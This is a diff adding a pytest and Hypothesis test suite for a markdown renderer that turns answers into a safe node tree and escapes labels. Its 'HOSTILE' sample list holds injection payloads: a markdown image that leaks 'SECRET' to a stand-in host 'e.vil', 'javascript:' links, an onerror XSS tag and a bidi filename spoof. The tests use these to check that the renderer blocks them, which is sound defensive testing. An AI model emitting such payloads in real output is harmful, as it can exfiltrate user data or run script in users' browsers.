@@ -1,0 +1,168 @@
+"""The safe tree: what an answer may become on the page, whatever is written in it."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from core.ui.markdown import Node, plain, plain_with_code, shown, tree
+
+KINDS = {
+    "p", "quote", "li", "strong", "em", "s", "thead", "tbody", "tr", "th", "td", "h", "ul", "ol",
+    "table", "claim", "code", "span", "image", "cite", "verdict", "br", "hr", "link", "tight",
+    "keep",
+}  # fmt: skip
+
+
+def walk(nodes: list[Node]) -> list[dict[str, Any]]:
+    found: list[dict[str, Any]] = []
+    for node in nodes:
+        if isinstance(node, dict):
+            found.append(node)
+            found += walk(node.get("c", []))
+    return found
+
+
+def words(nodes: list[Node]) -> str:
+    parts = []
+    for node in nodes:
+        if isinstance(node, str):
+            parts.append(node)
+        else:
+            parts.append(node.get("text", "") + words(node.get("c", [])))
+            parts.append(f"[{node['n']}]" if node["t"] == "cite" else "")
+    return "".join(parts)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("a **b** *c* ~~d~~", ["a ", {"t": "strong", "c": ["b"]}, " ", {"t": "em", "c": ["c"]},
+                               " ", {"t": "s", "c": ["d"]}]),
+        ("one\ntwo", ["one two"]),
+        ("one  \ntwo", ["one", {"t": "br"}, "two"]),
+        ("`x < 1`", [{"t": "span", "text": "x < 1"}]),
+        ("&lt;b&gt; &amp; \\*", ["<b> & *"]),
+    ],
+)  # fmt: skip
+def test_inline_marks(text: str, expected: list[Node]) -> None:
+    assert tree(text) == [{"t": "p", "c": expected}]
+
+
+def test_blocks() -> None:
+    text = "# T\n\n1. a\n2. b\n\n> q\n\n---\n\n```py\nx = 1\n```\n\n| h |\n|---|\n| c |"
+    kinds = [node["t"] for node in tree(text) if isinstance(node, dict)]
+    assert kinds == ["h", "ol", "quote", "hr", "code", "table"]
+
+
+def test_marks_stay_with_the_word_before_and_the_stop_behind() -> None:
+    cite = {"t": "cite", "n": 1}
+    other = {"t": "cite", "n": 2}
+    assert tree("It is so [1][2]. Next", {1, 2}) == [
+        {"t": "p", "c": ["It is ", {"t": "keep", "c": ["so ", cite, other, "."]}, " Next"]}
+    ]
+
+
+def test_marks_in_code_stay_text() -> None:
+    nodes = tree("`a[1]`\n\n```\nb[1]\n```", {1})
+    assert [node["t"] for node in walk(nodes)] == ["p", "span", "code"]
+
+
+def test_claims_wrap_their_sentence_through_markup() -> None:
+    text = "Of **all** that [1]. Next."
+    nodes = tree(text, {1}, claims={4: (0, 20)})
+    claimed = [node for node in walk(nodes) if node["t"] == "claim"]
+    assert {node["k"] for node in claimed} == {4}
+    assert words(claimed) == "Of all that [1]."
+    assert [node["k"] for node in walk(nodes) if node["t"] == "verdict"] == [4]
+
+
+@pytest.mark.parametrize("start", ["- ", "1. ", "# ", "> ", "- 1. "])
+def test_claims_at_the_start_of_a_block_do_not_break_it(start: str) -> None:
+    text = f"{start}It is so."
+    with_claim = tree(text, claims={0: (0, len(text))})
+    kinds = [node["t"] for node in walk(with_claim)]
+    assert [kind for kind in kinds if kind not in ("claim", "verdict")] == [
+        node["t"] for node in walk(tree(text))
+    ]
+    assert "claim" in kinds
+
+
+SENTENCES = st.lists(
+    st.sampled_from(
+        ["It is so [1].", "The **sum** is 5.", "See `x[0]` here.", "“Quoted” (p. 3).", "- A point.",
+         "$5 and $6.", "<b>no</b>.", "1. First.", "Say *this* [2]!"]
+    ),
+    min_size=1,
+    max_size=6,
+)  # fmt: skip
+
+
+@given(SENTENCES, st.sampled_from([" ", "\n", "\n\n"]))
+def test_claims_change_nothing_but_their_wrapping(sentences: list[str], between: str) -> None:
+    text = between.join(sentences)
+    claims, at = {}, 0
+    for index, sentence in enumerate(sentences):
+        claims[index] = (at, at + len(sentence))
+        at += len(sentence) + len(between)
+    assert words(tree(text, {1, 2}, claims=claims)) == words(tree(text, {1, 2}))
+
+
+HOSTILE = st.lists(
+    st.sampled_from(
+        ["![a](http://e.vil/p?q=", "SECRET", ")", "[x](", "http://e.vil", "javascript:alert(1)",
+         "<img src=x onerror=alert(1)>", "<", ">", "[r]: http://e.vil\n", "![a][r]", "[1]", "\n\n",
+         "`", "```\n", "**", "https://ok.org/a", "](", "!\u200b[", "\ue000", "\uf000",
+         "|-|\n", "&#x3c;"]
+    ),
+    max_size=25,
+).map("".join)  # fmt: skip
+
+
+@given(st.one_of(HOSTILE, st.text(max_size=300)))
+@settings(max_examples=300)
+@example("![a](http://e.vil/p?q=SECRET)")
+def test_nothing_gets_through_but_known_kinds(text: str) -> None:
+    nodes = walk(tree(text, {1}, {"https://ok.org/a"}))
+    assert {node["t"] for node in nodes} <= KINDS
+    assert {node["href"] for node in nodes if node["t"] == "link"} <= {"https://ok.org/a"}
+    assert {node["n"] for node in nodes if node["t"] == "cite"} <= {1}
+
+
+def test_a_text_beyond_all_measure_is_shown_without_parsing() -> None:
+    text = "[" * 300_000
+    assert tree(text) == [{"t": "p", "c": [text]}]
+
+
+def test_deep_nesting_ends() -> None:
+    assert tree(">" * 5_000 + " x")
+    assert tree("*a " * 5_000)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["a_b*c", "$x$", "[a](http://e.vil)", "<script>", "# t", "1. x", "~~s~~", "`c`", "a|b"],
+)
+def test_labels_escape_every_sign(text: str) -> None:
+    assert plain(text).replace("\\", "").replace("\u2060", "") == text.replace("\\", "")
+    for sign in "*_$[]<>#`~|":
+        assert plain(text).count(sign) == plain(text).count(f"\\{sign}")
+
+
+@pytest.mark.parametrize("text", [":tada:", ":material/home:", "https://e.vil", "me@e.vil"])
+def test_labels_break_what_is_recognised_without_signs(text: str) -> None:
+    assert "\u2060" in plain(text)
+
+
+def test_labels_are_one_line() -> None:
+    assert plain("a\n# b\t c") == "a \\# b c"
+    assert plain_with_code("Run `pip install -r x`!") == "Run `pip install -r x`\\!"
+    assert plain_with_code("one ` only") == "one \\` only"
+
+
+def test_what_forges_reading_is_dropped() -> None:
+    assert shown("exe.\u202efdp\x00\x1b[31m") == "exe.fdp[31m"
+    assert words(tree("a\u202eb")) == "ab"
